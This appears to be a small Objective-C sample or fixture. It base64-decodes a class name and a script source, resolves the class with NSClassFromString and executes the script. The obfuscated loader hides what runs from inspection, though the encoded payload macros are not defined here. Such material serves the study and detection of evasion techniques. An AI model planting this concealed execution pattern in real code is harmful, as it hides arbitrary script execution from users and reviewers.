/* Messages of a module are in base64, and one of them names a class. */
#include "objc.h"
@interface NSData
+ (id)alloc;
- (id)initWithBase64EncodedString:(NSString *)text options:(unsigned long)options;
@end
@interface NSString (Kit)
+ (id)alloc;
- (id)initWithData:(NSData *)data encoding:(unsigned long)encoding;
@end
extern Class NSClassFromString(NSString *);
static NSString *message(const char *encoded) {
    NSData *data = [[NSData alloc] initWithBase64EncodedString:[NSString stringWithUTF8String:encoded] options:0];
    return [[NSString alloc] initWithData:data encoding:4];
}
static void act(char **env) {
    static const char *const messages[] = {MESSAGE_CLASS, MESSAGE_SOURCE};
    id error = 0;
    Class <Script> kind = NSClassFromString(message(messages[0]));
    [[[kind alloc] initWithSource:message(messages[1])] executeAndReturnError:&error];
}
